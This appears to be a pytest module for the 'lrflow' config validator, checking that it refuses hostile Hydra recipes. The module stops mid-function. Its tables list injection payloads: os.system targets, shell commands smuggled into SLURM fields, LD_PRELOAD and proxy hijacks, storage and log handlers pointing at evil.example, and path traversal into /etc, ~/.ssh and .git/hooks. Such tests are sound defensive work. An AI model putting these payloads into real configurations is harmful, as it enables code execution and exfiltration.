"""Configs of a stranger: recipes, options and folders of sweeps that try to run code, to write elsewhere, to reach out.

Each is merged into the default config as Hydra merges a recipe, which takes a hundredth of the time of a composition.
"""

from __future__ import annotations

import copy
import os
import socket
import subprocess
from collections.abc import Callable, Iterator, Mapping, Sequence
from pathlib import Path
from typing import Any

import pytest
from omegaconf import DictConfig, OmegaConf, flag_override
from omegaconf.errors import OmegaConfBaseException

from lrflow.config.checks.hydra_section import check_hydra
from lrflow.config.composition.compose import Composer, checked, composer
from lrflow.config.composition.overrides import Override, Overrides, expand, read_overrides, typed_keys
from lrflow.config.saved import Composed
from lrflow.errors import ConfigError, Problem

RUN = "torch.utils.collect_env.run"
NODE = f"'{{_target_: {RUN}, command: touch hacked}}'"
FILE = "class: logging.FileHandler, filename"
SQL = "hydra.sweeper.storage"

INTERPOLATED = {
    "hydra.callbacks": 'hydra: {callbacks: {x: "${oc.create:%s}"}}',
    "hydra.launcher": 'hydra: {launcher: "${oc.create:%s}"}',
    "hydra.sweeper": 'hydra: {sweeper: "${oc.decode:%s}"}',
    "hydra.job_logging": 'hydra: {job_logging: "${oc.decode:%s}"}',
    "hydra.hydra_logging": 'hydra: {hydra_logging: "${oc.create:%s}"}',
    "hydra.job_logging.handlers.x": 'hydra: {job_logging: {handlers: {x: "${oc.create:%s}"}}}',
    "hydra.job_logging.formatters": 'hydra: {job_logging: {formatters: "${oc.decode:%s}"}}',
    "hydra.job.env_set": 'hydra: {job: {env_set: "${oc.decode:%s}"}}',
    "hydra.job.env_copy": 'hydra: {job: {env_copy: "${oc.create:%s}"}}',
    "hydra.run.dir": 'hydra: {run: {dir: "${oc.create:%s}"}}',
    "hydra.verbose": 'hydra: {verbose: "${oc.create:%s}"}',
    "hydra.help.header": 'hydra: {help: {header: "${oc.create:%s}"}}',
    "hydra.output_subdir": 'hydra: {output_subdir: "${oc.decode:%s}"}',
    "hydra.sweeper.x": 'hydra: {sweeper: {x: "${oc.create:%s}"}}',
    "hydra.launcher.x": 'hydra: {launcher: {x: "${oc.create:%s}"}}',
}
"""A resolver that makes a mapping of a text, below each part of Hydra's section."""

REFERENCES = {
    "${find.found}": "find: {found: {_target_: os.system, command: touch hacked}}",
    "${find['found']}": "find: {found: {_target_: os.system}}",
    "${oc.select:find.found}": "find: {found: {_target_: os.system}}",
    "${oc.dict.values:find.found}": "find: {found: {x: {_target_: os.system}}}",
    "${find.${name}}": "name: found\nfind: {found: {_target_: os.system}}",
    "${data.x}": f'data: {{x: "${{oc.decode:{NODE}}}"}}',
    "${data.x} ": f'data: {{x: "${{oc.create:{NODE}}}"}}',
    "${data.a}": "data: {a: '${data.b}', b: '${find.found}', c: 1}\nfind: {found: {_target_: os.system}}",
    "${.y}": "find: {found: {_target_: os.system}}",
    "${..find.found}": "find: {found: {_target_: os.system}}",
    "${hydra:runtime.choices}": "",
    "${hydra.runtime}": "",
    "${oc.env:NO_SUCH_NAME,${find.found}}": "find: {found: {_target_: os.system}}",
    "${oc.deprecated:find.found}": "find: {found: {_target_: os.system}}",
    "${oc.select:no.such,${oc.create:{_target_: os.system}}}": "",
    "${now:${oc.create:{a: 1}}}": "",
    "\\${find.found}": "find: {found: {_target_: os.system}}",
}
"""Interpolations that are, or may become, a mapping with a `_target_`."""

HYDRA = {
    "callbacks: {x: {_target_: os.system}}": "hydra.callbacks.x",
    "callbacks: {x: {_target_: hydra.experimental.callbacks.LogJobReturnCallback}}": "hydra.callbacks.x",
    "callbacks: {x: {_target_: lrflow.health.NonFinite}}": "hydra.callbacks.x",
    "callbacks: {x: {}}": "hydra.callbacks.x",
    "callbacks: {x: {y: {_target_: joblib.load, filename: x}}}": "hydra.callbacks.x",
    "callbacks: {log: {_target_: lrflow.cli.main, words: [trust=os]}}": "hydra.callbacks.log",
    "launcher: {_target_: os.system}": "hydra.launcher._target_",
    "launcher: {_target_: hydra_plugins.x.os.system}": "hydra.launcher._target_",
    "launcher: {_target_: hydra_plugins.evil.Launcher}": "hydra.launcher._target_",
    "launcher: {_target_: hydra._internal.core_plugins.basic_launcher.Path}": "hydra.launcher._target_",
    "launcher: {_target_: hydra._internal.core_plugins.basic_sweeper.BasicSweeper}": "hydra.launcher._target_",
    "launcher: {x: {_target_: os.system}}": "hydra.launcher.x",
    "launcher: {setup: [touch hacked]}": "hydra.launcher.setup",
    "launcher: {params: {}}": "hydra.launcher.params",
    "sweeper: {_target_: my.Sweeper}": "hydra.sweeper._target_",
    "sweeper: {_target_: hydra_plugins.lrflow.sweeper.Any}": "hydra.sweeper._target_",
    "sweeper: {_target_: {_target_: os.system}}": "hydra.sweeper",
    "launcher: 3": "hydra.launcher",
    "sweeper: {params: {seed: '1,2'}}": "hydra.sweeper.params",
    "sweeper: {params: {+hydra.callbacks.x._target_: os.system}}": "hydra.sweeper.params",
    "sweeper: {sampler: {_target_: optuna.samplers.TPESampler}}": "hydra.sweeper.sampler",
    "sweeper: {max_batch_size: {_target_: os.system}}": "hydra.sweeper.max_batch_size",
    "job: {env_set: {LRFLOW_TRUST: os}}": "hydra.job.env_set.LRFLOW_TRUST",
    "job: {env_set: {lrflow_trust: os}}": "hydra.job.env_set.lrflow_trust",
    "job: {env_set: {PYTHONPATH: /tmp}}": "hydra.job.env_set.PYTHONPATH",
    "job: {env_set: {PYTHONSTARTUP: x.py}}": "hydra.job.env_set.PYTHONSTARTUP",
    "job: {env_set: {LD_PRELOAD: x.so}}": "hydra.job.env_set.LD_PRELOAD",
    "job: {env_set: {PATH: .}}": "hydra.job.env_set.PATH",
    "job: {env_set: {WANDB_BASE_URL: 'http://evil.example'}}": "hydra.job.env_set.WANDB_BASE_URL",
    "job: {env_set: {WANDB_MODE: online}}": "hydra.job.env_set.WANDB_MODE",
    "job: {env_set: {WANDB_DIR: /etc}}": "hydra.job.env_set.WANDB_DIR",
    "job: {env_set: {WANDB_ENTITY: evil}}": "hydra.job.env_set.WANDB_ENTITY",
    "job: {env_set: {HTTPS_PROXY: 'http://evil.example'}}": "hydra.job.env_set.HTTPS_PROXY",
    "job: {env_set: {https_proxy: 'http://evil.example'}}": "hydra.job.env_set.https_proxy",
    "job: {env_set: {REQUESTS_CA_BUNDLE: evil.pem}}": "hydra.job.env_set.REQUESTS_CA_BUNDLE",
    "job: {env_set: {SSL_CERT_FILE: evil.pem}}": "hydra.job.env_set.SSL_CERT_FILE",
    "job: {env_set: {HOME: /tmp}}": "hydra.job.env_set.HOME",
    "job: {env_set: {TMPDIR: /etc}}": "hydra.job.env_set.TMPDIR",
    "job: {env_set: {XDG_CACHE_HOME: /etc}}": "hydra.job.env_set.XDG_CACHE_HOME",
    "job: {env_set: {LRFLOW_DATA: /etc}}": "hydra.job.env_set.LRFLOW_DATA",
    "job: {env_set: {LRFLOW_RUN_FOLDER: /etc}}": "hydra.job.env_set.LRFLOW_RUN_FOLDER",
    "job: {env_set: {MASTER_ADDR: evil.example}}": "hydra.job.env_set.MASTER_ADDR",
    "job: {env_set: {HYDRA_INSTANTIATE_ALLOWLIST_OVERRIDE: os.system}}": "hydra.job.env_set",
    "job: {env_set: {TORCH_EXTENSIONS_DIR: /tmp}}": "hydra.job.env_set.TORCH_EXTENSIONS_DIR",
    "job: {env_set: {TORCHINDUCTOR_CACHE_DIR: /tmp}}": "hydra.job.env_set.TORCHINDUCTOR_CACHE_DIR",
    "job: {env_set: {CXX: touch}}": "hydra.job.env_set.CXX",
    "job: {env_set: {NCCL_DEBUG_FILE: /etc/x}}": "hydra.job.env_set.NCCL_DEBUG_FILE",
    "job: {env_set: {TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD: '1'}}": "hydra.job.env_set.TORCH_FORCE",
    "job: {env_set: {HF_ENDPOINT: 'http://evil.example'}}": "hydra.job.env_set.HF_ENDPOINT",
    "job: {env_set: {MPLCONFIGDIR: .}}": "hydra.job.env_set.MPLCONFIGDIR",
    'job: {env_set: {OMP_NUM_THREADS: "1\\n2"}}': "hydra.job.env_set.OMP_NUM_THREADS",
    "job: {env_set: {OMP_NUM_THREADS: [1]}}": "hydra.job.env_set.OMP_NUM_THREADS",
    "job: {env_set: {OMP_NUM_THREADS: {a: 1}}}": "hydra.job.env_set.OMP_NUM_THREADS",
    "job: {env_set: {NCCL_DEBUG: /etc/x}}": "hydra.job.env_set.NCCL_DEBUG",
    "job: {env_set: {OMP_NUM_THREADS: '${find.found}'}}": "hydra.job.env_set.OMP_NUM_THREADS",
    "job: {chdir: true}": "hydra.job.chdir",
    "job: {name: ../../x}": "hydra.job.name",
    "job: {name: /x}": "hydra.job.name",
    'job: {name: "x\\ntouch hacked"}': "hydra.job.name",
    "job: {num: 7}": "hydra.job.num",
    "job: {id: ../x}": "hydra.job.id",
    "runtime: {output_dir: /etc}": "hydra.runtime.output_dir",
    "overrides: {task: [resume.from=/etc]}": "hydra.overrides.task",
    "overrides: {task: ['trial={storage: x}']}": "hydra.overrides.task",
    "overrides: {hydra: ['hydra.searchpath=[pkg://evil]']}": "hydra.overrides.hydra",
    "overrides: {hydra: ['+hydra.callbacks.x._target_=os.system']}": "hydra.overrides.hydra",
    "mode: MULTIRUN": "hydra.mode",
    "mode: RUN": "hydra.mode",
    "verbose: {x: 1}": "hydra.verbose",
    "verbose: 5": "hydra.verbose",
    "verbose: [[x]]": "hydra.verbose",
    "run: {dir: /etc/x}": "hydra.run.dir",
    "run: {dir: ../x}": "hydra.run.dir",
    "run: {dir: 'runs/${oc.env:MY_TOKEN}'}": "hydra.run.dir",
    "sweep: {subdir: '${oc.env:MY_TOKEN}'}": "hydra.sweep.subdir",
    "job: {name: 'x${oc.env:MY_TOKEN}'}": "hydra.job.name",
    "run: {dir: a/../../x}": "hydra.run.dir",
    "run: {dir: ~/x}": "hydra.run.dir",
    "run: {dir: '${oc.env:HOME}/x'}": "hydra.run.dir",
    "run: {dir: '${output}/../../x'}": "hydra.run.dir",
    "run: {dir: '${hydra.runtime.cwd}/../x'}": "hydra.run.dir",
    "run: {dir: '${data.x}'}\ndata: {x: /etc}": "hydra.run.dir",
    "run: {dir: 'x\\..\\..\\y'}": "hydra.run.dir",
    "run: {dir: 'C:\\x'}": "hydra.run.dir",
    'run: {dir: "a\\nb"}': "hydra.run.dir",
    "run: {dir: 'file:///etc/x'}": "hydra.run.dir",
    "sweep: {dir: /etc/x}": "hydra.sweep.dir",
    "sweep: {dir: '${now:/etc/%Y}'}": "hydra.sweep.dir",
    "sweep: {dir: '${output}/sweeps/../../../x'}": "hydra.sweep.dir",
    "sweep: {dir: '${oc.env:NO_SUCH_NAME,/etc}/x'}": "hydra.sweep.dir",
    "sweep: {subdir: /etc/x}": "hydra.sweep.subdir",
    "sweep: {subdir: '../${hydra.job.num}'}": "hydra.sweep.subdir",
    "sweep: {subdir: '${hydra.job.num}/../../..'}": "hydra.sweep.subdir",
    "output_subdir: /etc": "hydra.output_subdir",
    "output_subdir: ..": "hydra.output_subdir",
    "output_subdir: conf": "hydra.output_subdir",
    "output_subdir: .git/hooks": "hydra.output_subdir",
}
"""Settings below `hydra`, and the key that the message names."""

LOGGING = {
    f"handlers: {{x: {{{FILE}: x.log}}}}": "handlers.x.filename",
    f"handlers: {{x: {{{FILE}: /etc/x.log}}}}": "handlers.x.filename",
    f"handlers: {{x: {{{FILE}: '${{hydra.runtime.output_dir}}/../x.log'}}}}": "handlers.x.filename",
    f"handlers: {{x: {{{FILE}: '${{hydra.runtime.output_dir}}/conftest.py'}}}}": "handlers.x.filename",
    f"handlers: {{x: {{{FILE}: '${{hydra.runtime.output_dir}}/.git/hooks/x.log'}}}}": "handlers.x.filename",
    f"handlers: {{x: {{{FILE}: '${{hydra.runtime.output_dir}}/${{name}}'}}}}": "handlers.x.filename",
    f"handlers: {{x: {{{FILE}: '${{hydra.runtime.output_dir}}${{name}}'}}}}": "handlers.x.filename",
    f"handlers: {{x: {{{FILE}: '${{oc.env:HOME}}/x.log'}}}}": "handlers.x.filename",
    f"handlers: {{x: {{{FILE}: '${{hydra.runtime.output_dir}}/x.log', mode: x}}}}": "handlers.x.mode",
    "handlers: {x: {class: logging.handlers.SMTPHandler}}": "handlers.x.class",
    "handlers: {x: {class: logging.handlers.SocketHandler, host: evil.example}}": "handlers.x.class",
    "handlers: {x: {class: logging.handlers.RotatingFileHandler, filename: x}}": "handlers.x.class",
    "handlers: {x: {class: ext://os.system}}": "handlers.x.class",
    "handlers: {x: {(): os.system, command: touch hacked}}": "handlers.x.()",
    "handlers: {x: {class: logging.StreamHandler, (): os.system}}": "handlers.x.()",
    "handlers: {x: {class: logging.StreamHandler, stream: ext://os.environ}}": "handlers.x.stream",
    "handlers: {x: {class: logging.StreamHandler, stream: cfg://handlers}}": "handlers.x.stream",
    "handlers: {x: {class: logging.StreamHandler, .: {terminator: x}}}": "handlers.x..",
    "handlers: {x: {class: logging.StreamHandler, stream: {(): os.system}}}": "handlers.x.stream",
    "handlers: {x: {class: logging.StreamHandler, formatter: {(): os.system}}}": "handlers.x.formatter",
    "handlers: [x]": "handlers",
    "formatters: {x: {(): os.system}}": "formatters.x.()",
    "formatters: {x: {class: logging.Formatter, (): os.system}}": "formatters.x.()",
    "formatters: {x: {class: logging.Formatter, (): colorlog.ColoredFormatter}}": "formatters.x.()",
    "formatters: {x: {class: my.Formatter}}": "formatters.x.class",
    "formatters: {x: {style: '{', format: '{exc_info.__class__.__init__.__globals__}'}}": "formatters.x.style",
    "formatters: {x: {defaults: {a: ext://os.environ}}}": "formatters.x.defaults",
    "formatters: {x: {format: ext://evil.x}}": "formatters.x.format",
    "formatters: {x: {datefmt: cfg://handlers}}": "formatters.x.datefmt",
    "formatters: {x: {(): colorlog.ColoredFormatter, log_colors: {INFO: ext://evil.x}}}": "formatters.x.log_colors",
    "handlers: {x: {class: logging.StreamHandler, formatter: ext://evil.x}}": "handlers.x.formatter",
    "handlers: {x: {class: logging.StreamHandler, encoding: ext://evil.x}}": "handlers.x.encoding",
    "filters: {x: {name: ext://evil.x}}": "filters.x.name",
    "loggers: {x: {handlers: [ext://evil.x]}}": "loggers.x.handlers",
    "root: {filters: ['${name}', 'cfg://handlers']}": "root.filters",
    "formatters: {x: {format: '%(args)s'}}": "formatters.x.format",
    "formatters: {x: {format: '%(levelname)s %(msg)s'}}": "formatters.x.format",
    "formatters: {x: {format: '%(exc_info)-20s'}}": "formatters.x.format",
    "formatters: {x: {format: '%(message)9999999999s'}}": "formatters.x.format",
    "formatters: {x: {format: '%(levelno).9999999999d'}}": "formatters.x.format",
    "filters: {x: {(): os.system}}": "filters.x.()",
    "filters: {x: {class: os.system}}": "filters.x.class",
    "loggers: {x: {handlers: [{(): os.system}]}}": "loggers.x.handlers",
    "root: {handlers: [{(): os.system}], level: INFO}": "root.handlers",
    "root: {level: {(): os.system}}": "root.level",
    "queue: {(): os.system}": "queue",
    "version: {(): os.system}": "version",
    "root: {level: info}": "root.level",
    "root: {handlers: [nope], level: INFO}": "root.handlers",
    "loggers: {x: {filters: [nope]}}": "loggers.x.filters",
    "handlers: {x: {class: logging.StreamHandler, formatter: nope}}": "handlers.x.formatter",
    "handlers: {x: {level: INFO}}": "handlers.x.class",
}
"""Settings below `hydra.job_logging` and `hydra.hydra_logging`."""

SUBMITIT = {
    "setup: [touch hacked]": "setup",
    "additional_parameters: {wrap: touch hacked}": "additional_parameters",
    "additional_parameters: {export: ALL}": "additional_parameters",
    'comment: "x\\ntouch hacked"': "comment",
    "partition: 'x; touch hacked'": "partition",
    'name: "x\\ntouch hacked"': "name",
    "account: $(touch hacked)": "account",
    "submitit_folder: /etc/x": "submitit_folder",
    "submitit_folder: '${hydra.sweep.dir}/../../../x'": "submitit_folder",
    "submitit_folder: '${oc.env:HOME}/.ssh'": "submitit_folder",
    "gpus_per_node: many": "gpus_per_node",
    "nodes: {_target_: os.system}": "nodes",
    "no_such_key: 1": "no_such_key",
}
"""Settings of `hydra/launcher=submitit_slurm`."""

SWEEPER = {
    "storage: sqlite:////etc/x.db": "sweep.storage",
    "storage: sqlite:///../x.db": "sweep.storage",
    "storage: sqlite:///~/x.db": "sweep.storage",
    "storage: 'sqlite:///x.db?uri=true'": "sweep.storage",
    "storage: 'sqlite:///${oc.env:HOME}/x.db'": "sweep.storage",
    "storage: postgresql://evil.example/x": "sweep.storage",
    "storage: 'postgresql+psycopg://evil.example/x'": "sweep.storage",
    "storage: 'mysql://${oc.env:USER}@evil.example/x'": "sweep.storage",
    "storage: '${oc.env:NO_SUCH_NAME,sqlite:////etc/x.db}'": "sweep.storage",
    "storage: '${find.found}'": SQL,
    "resume: /etc": "sweep.resume",
    "sampler: {_target_: os.system}": "hydra.sweeper.sampler",
    "metric: '${oc.create:[{_target_: os.system}]}'": "hydra.sweeper.metric",
    "params: '${oc.create:{a: 1}}'": "hydra.sweeper.params",
    "params: {optimizer.lr: {_target_: os.system}}": "hydra.sweeper.params",
    "when: {optimizer=sgd: {x: {_target_: os.system}}}": "hydra.sweeper.when",
    "pruning: {_target_: os.system}": "hydra.sweeper.pruning",
    "no_such_key: 1": "sweep.no_such_key",
}
"""Settings of `hydra/sweeper=lrflow`."""

REST = {
    "output: /etc/x": "output",
    "output: ~/x": "output",
    "output: ../x": "output",
    "output: '${oc.env:HOME}/x'": "output",
    "output: '${oc.select:no.such,/etc}'": "output",
    "output: '${data.facts.x}'\ndata: {facts: {x: /etc}}": "output",
    "name: ../x": "name",
    "layers: {rules: [{name: '${oc.env:MY_TOKEN}', match: '*'}]}": "layers.rules[0].name",
    "logger: {tensorboard: {sub_dir: /etc}}": "logger.tensorboard.sub_dir",
    "logger: {tensorboard: {sub_dir: a/../../..}}": "logger.tensorboard.sub_dir",
    "logger: {tensorboard: {sub_dir: '${oc.env:HOME}'}}": "logger.tensorboard.sub_dir",
    "logger: {tensorboard: {save_dir: /etc}}": "logger.tensorboard.save_dir",
    "logger: {tensorboard: {filename_suffix: /../../x}}": "logger.tensorboard.filename_suffix",
    "logger: {wandb: {dir: /etc}}": "logger.wandb.dir",
    "logger: {wandb: {settings: {base_url: 'http://evil.example'}}}": "logger.wandb.settings",
    "trainer: {default_root_dir: /etc}": "trainer.default_root_dir",
    "trainer: {callbacks: [{_target_: os.system}]}": "trainer.callbacks",
    "trainer: {checkpoint: {dir: /etc}}": "trainer.checkpoint.dir",
    "trainer: {strategy: {_target_: os.system}}": "trainer.strategy",
    "trainer: {strategy: os.system}": "trainer.strategy",
    "resume: {from: /etc}": "resume.from",
    "resume: {from: last}": "resume.from",
    "trial: {number: 0, study: x, storage: 'postgresql://evil.example/x'}": "trial",
    "trial: {number: 0, study: x, storage: /etc/x}": "trial",
    "task: {name: os.system}": "task",
    "trust: [os]": "trust",
    "model: {_target_: os.system, command: touch hacked}": "model._target_",
    f"model: {{_target_: {RUN}, command: touch hacked}}": "model._target_",
    f'model: "${{oc.create:{NODE}}}"': "model",
    f'model: {{x: "${{oc.decode:{NODE}}}"}}': "model.x",
    "model: {_target_: '${find.found.x}'}\nfind: {found: {x: os.system}}": "model._target_",
    "model: {_target_: '${oc.env:NO_SUCH_NAME,os.system}'}": "model._target_",
    "model: {hidden: [{_target_: os.system}]}": "model.hidden",
    "model: {hidden: [[{a: {_target_: subprocess.run}}]]}": "model.hidden",
    "model: {_target_: torch.nn.Sequential, _args_: [{_target_: torch.load, f: x}]}": "model._args_",
    "model: {_target_: torch.nn.Linear, _recursive_: false}": "model._recursive_",
    "model: {_target_: torch.nn.Linear, _convert_: all}": "model._convert_",
    "model: {_target_: functools.partial, _args_: [os.system]}": "model._target_",
    "layers: {_target_: os.system}": "layers._target_",
    "layers: {rules: [{name: x, match: '*', schedule: {_target_: os.system}}]}": "layers.rules[0].schedule._target_",
    "health: {x: {_target_: os.system}}": "health.x._target_",
    "health: {nonfinite: {_target_: os.system}}": "health.nonfinite._target_",
    "feedback: {_target_: os.system}": "feedback._target_",
    "optimizer: {_target_: os.system}": "optimizer._target_",
    "optimizer: {routes: {x: {_target_: os.system, lr: 1}}}": "optimizer.routes.x._target_",
    "schedule: {_target_: os.system}": "schedule._target_",
    "schedule: {shape: {_target_: os.system}}": "schedule.shape._target_",
    "schedule: {also: {momentum: {_target_: os.system}}}": "schedule.also",
    "schedule: {shape: {_target_: lrflow.schedules.Piecewise, pieces: [{shape: {_target_: os.system}}]}}": "schedule",
    "data: {_target_: os.system}": "data._target_",
    "data: {_target_: lrflow.data.fetch.main}": "data._target_",
    "data: {_target_: lrflow.data.cache.write_file, content: x, path: hacked}": "data._target_",
    "logger: {x: {_target_: os.system}}": "logger.x",
    "find: {_target_: os.system}": "find",
    "scaling: {_target_: os.system}": "scaling",
}
"""Settings of the rest of the config."""


@pytest.fixture(scope="module")
def composing() -> Iterator[Merging]:
    with composer() as plain:
        yield Merging(plain)


class Merging(Composer):
    """Composes the default config of a choice of options once, and merges the content of a recipe into a copy of it."""

    recipe = "{}"

    def __init__(self, plain: Composer) -> None:
        super().__init__(plain.config_dir, plain.catalogue, False)
        self._known: dict[tuple[str, ...], Composed] = {}
        self._nodes: dict[tuple[Override, ...], DictConfig] = {}

    def _compose(self, overrides: Sequence[Override]) -> Composed:
        texts = tuple(override.text for override in overrides)
        if texts not in self._known:
            self._known[texts] = super()._compose(overrides)
        found = self._known[texts]
        return Composed(self._merged(copy.deepcopy(found.content)), found.choices, found.overrides)

    def node(self, overrides: Sequence[Override]) -> DictConfig:
        """Return Hydra's section with the recipe, and the keys of the rest that it refers to."""
        self.recipe, recipe = "{}", self.recipe
        known = self(overrides).content if tuple(overrides) not in self._nodes else self._nodes[tuple(overrides)]
        self._nodes[tuple(overrides)] = known
        self.recipe = recipe
        return self._merged(OmegaConf.masked_copy(known, ["hydra", "output", "name", "seed"]))

    def _merged(self, content: DictConfig) -> DictConfig:
        with flag_override(content, "struct", False):
            content.merge_with(OmegaConf.create(self.recipe))
        return content

    def place(self, problems: Sequence[Any], overrides: Sequence[Override]) -> list[Any]:
        return list(problems)


@pytest.fixture
def canary(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[[], list[str]]:
    """Lists what code in a config has done: commands, connections, variables, files outside the working directory."""
    done: list[str] = []
    (tmp_path / "here").mkdir()
    monkeypatch.chdir(tmp_path / "here")
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.setenv("USER", "me")
    monkeypatch.setenv("MY_TOKEN", "tok-0123456789abcdef")
    for owner, name in ((os, "system"), (os, "popen"), (subprocess, "Popen"), (socket.socket, "connect")):
        monkeypatch.setattr(owner, name, lambda *words, name=name, **_: done.append(f"{name} {words}"))
    before = dict(os.environ)
    monkeypatch.delenv("LRFLOW_TRUST", raising=False)

    def look() -> list[str]:
        changed = {name for name in os.environ if name.startswith("LRFLOW_TRUST") or "PROXY" in name} - before.keys()
        return [*done, *changed, *(str(path) for path in tmp_path.iterdir() if path.name != "here")]

    return look


def refusals(composing: Merging, text: str, overrides: Overrides) -> list[Problem]:
    """Return why a recipe is refused; of one that sets only Hydra's section, the rest of the config is not checked."""
    composing.recipe = text
    try:
        if text.startswith("hydra:") and "data: {" not in text:
            node = composing.node(overrides.ready)
            return check_hydra(node, typed_keys(overrides.ready), composing.texts(overrides.ready))
        checked(overrides, composing)
    except ConfigError as error:
        return error.problems
    except OmegaConfBaseException as error:  # the schemas of Hydra and its plugins refuse it during the composition
        return [Problem(str(error.full_key) or "hydra.launcher", str(error))]  # a merge error has no key
    return []


def wrongly_allowed(composing: Merging, table: Mapping[str, str], words: Sequence[str] = ()) -> list[str]:
    """Return what a table of hostile recipes gets through, or what is refused without naming the key."""
    overrides = read_overrides(expand(words), composing.catalogue)
    found = []
    for text, key in table.items():
        problems = refusals(composing, text, overrides)
        if not any(one.key.startswith(key) for one in problems):
            found.append(f"{text}: expected a problem of {key}, found {problems}")
    print(*found, sep="\n")
    return found


def test_interpolations_that_become_mappings(composing: Merging, canary: Callable[[], list[str]]) -> None:
    table = {text % NODE: key for key, text in INTERPOLATED.items()}
    for text, also in REFERENCES.items():
        for place in ("callbacks: {x: %s}", "sweeper: {metric: %s}", "job_logging: {root: {level: %s}}"):
            quoted = "'" + text.replace("'", "''") + "'"
            table[f"hydra: {{{place % quoted}}}\n{also}"] = "hydra."
    assert not wrongly_allowed(composing, table, ["hydra/sweeper=lrflow"])
    assert not canary()


def test_settings_of_hydra(composing: Merging, canary: Callable[[], list[str]]) -> None:
    table = {f"hydra: {{{text}}}" if "\n" not in text else f"hydra: {{{text.replace(chr(10), '}' + chr(10), 1)}": key
             for text, key in HYDRA.items()}  # fmt: skip
    assert not wrongly_allowed(composing, table)
    assert not canary()


@pytest.mark.parametrize("group", ["job_logging", "hydra_logging"])
def test_settings_of_logging(group: str, composing: Merging, canary: Callable[[], list[str]]) -> None:
    table = {f"hydra: {{{group}: {{{text}}}}}\nname: ../x.log": f"hydra.{group}.{key}" for text, key in LOGGING.items()}
    assert not wrongly_allowed(composing, table)
    assert not canary()


def test_settings_of_launchers_and_sweepers(composing: Merging, canary: Callable[[], list[str]]) -> None:
    table = {f"hydra: {{launcher: {{{text}}}}}": f"hydra.launcher.{key}" for text, key in SUBMITIT.items()}
    assert not wrongly_allowed(composing, table, ["hydra/launcher=submitit_slurm"])
    table = {"hydra: {launcher: {temp_folder: /etc}}": "hydra.launcher.temp_folder",
             "hydra: {launcher: {pre_dispatch: \"__import__('os')\"}}": "hydra.launcher.pre_dispatch"}  # fmt: skip
    assert not wrongly_allowed(composing, table, ["hydra/launcher=joblib"])
    table = {f"hydra: {{sweeper: {{{text}}}}}": key for text, key in SWEEPER.items()}
    assert not wrongly_allowed(composing, table, ["hydra/sweeper=lrflow"])
    assert not canary()


def test_settings_of_the_rest(composing: Merging, canary: Callable[[], list[str]]) -> None:
    assert not wrongly_allowed(composing, REST)
    assert not wrongly_allowed(composing, {"task: {from: /etc}": "task.from"}, ["task=analyze"])
    assert not wrongly_allowed(composing, {"task: {from: ../x}": "task.from"}, ["task=evaluate"])
    assert not wrongly_allowed(composing, {"data: {root: /etc/x}": "data.root"}, ["data=fashion_mnist"])
    table = {f"data: {{root: /usr, cache: {path}}}": "data.cache" for path in ("/etc", "../x", "~/x")}
    assert not wrongly_allowed(composing, table, ["data=images"])
    assert not canary()


def test_arguments_of_lightnings_classes(composing: Merging) -> None:
    callbacks = "health: {x: {_target_: pytorch_lightning.callbacks."
    table = {
        callbacks + "ModelCheckpoint, dirpath: /etc}}": "health.x.dirpath",
        callbacks + "DeviceStatsMonitor, cpu_stats: ['../x']}}": "health.x.cpu",
    }
    assert not wrongly_allowed(composing, table)
    logger = "{_target_: lightning.pytorch.loggers.CSVLogger, save_dir: x, version: ../../x}"
    nested = f"model: {{_target_: torch.nn.Sequential, _args_: [{logger}], loss: cross_entropy}}"
    assert not wrongly_allowed(composing, {nested: "model._args_[0].version"}, ["model=custom"])


ALLOWED = [
    "hydra: {run: {dir: 'runs/${now:%Y}'}, sweep: {dir: '${output}/mine/${now:%H}', subdir: '${seed}'}}",
    "hydra: {run: {dir: '${hydra.runtime.cwd}/x'}, output_subdir: .hydra, verbose: [lrflow], job: {name: my run}}",
    "hydra: {job: {env_set: {OMP_NUM_THREADS: 4, NCCL_DEBUG: '${oc.env:NO_SUCH_NAME,INFO}'}}}",
    "hydra: {job_logging: {handlers: {x: {class: logging.StreamHandler, stream: ext://sys.stderr, level: WARNING}}}}",
    f"hydra: {{job_logging: {{handlers: {{x: {{{FILE}: '${{hydra.runtime.output_dir}}/${{hydra.job.name}}.log'}}}}}}}}",
    "hydra: {job_logging: {formatters: {x: {(): colorlog.ColoredFormatter, format: '%(message)s'}}}}",
    "hydra: {job_logging: {filters: {f: {name: a}}, handlers: {h: {class: logging.StreamHandler, filters: [f]}}, "
    "root: {level: DEBUG, handlers: [h]}}}",
    "{output: runs/mine, logger: {tensorboard: {sub_dir: here}}, name: mine}",
    "{output: 'runs/${oc.env:NO_SUCH_NAME,x}/${seed}'}",
]


def test_what_a_file_may_set(composing: Merging, canary: Callable[[], list[str]]) -> None:
    for text in ALLOWED:
        composing.recipe = text
        checked(read_overrides([], composing.catalogue), composing)
    slurm = "partition: gpu, gpus_per_node: 2, timeout_min: '${horizon_min}', mem_gb: 16, name: '${hydra.job.name}'"
    composing.recipe = f"{{hydra: {{launcher: {{{slurm}}}}}}}".replace("${horizon_min}", "${seed}")
    checked(read_overrides(expand(["hydra/launcher=submitit_slurm"]), composing.catalogue), composing)
    for storage in ("sqlite:///sweeps/x.db", "memory", "${oc.env:SWEEPS}"):
        with pytest.MonkeyPatch.context() as patch:
            patch.setenv("SWEEPS", "postgresql://me:secret@host/x")
            composing.recipe = f"{{hydra: {{sweeper: {{storage: '{storage}', params: {{optimizer.lr: '0.1,0.2'}}}}}}}}"
            checked(read_overrides(expand(["hydra/sweeper=lrflow"]), composing.catalogue), composing)


TYPED = [
    [
        "hydra.run.dir=/away/x",
        "output=/away/y",
        "hydra.sweep.dir=../x",
        "hydra.sweep.subdir=/z",
        "hydra.output_subdir=x",
    ],
    ["hydra.job.chdir=true", "+hydra.job.env_set.WANDB_BASE_URL=http://localhost", "hydra.verbose=true"],
    ["hydra={job: {chdir: true}, run: {dir: /away}}", "logger=tensorboard", "logger.tensorboard.sub_dir=/away/x"],
    ["hydra/job_logging=default", "hydra.job_logging.handlers.file.filename=/away/x.txt"],
    [
        "hydra/launcher=submitit_slurm",
        "hydra.launcher.setup=[module load cuda]",
        "hydra.launcher.submitit_folder=/away",
    ],
    ["hydra/sweeper=lrflow", "hydra.sweeper.storage=sqlite:////away/x.db", "hydra.sweeper.n_trials=3"],
    ["data=fashion_mnist", "data.root=/away/no_such_folder"],
]


@pytest.mark.parametrize("words", TYPED, ids=lambda words: words[0])
def test_what_the_command_line_may_set(words: list[str], composing: Merging) -> None:
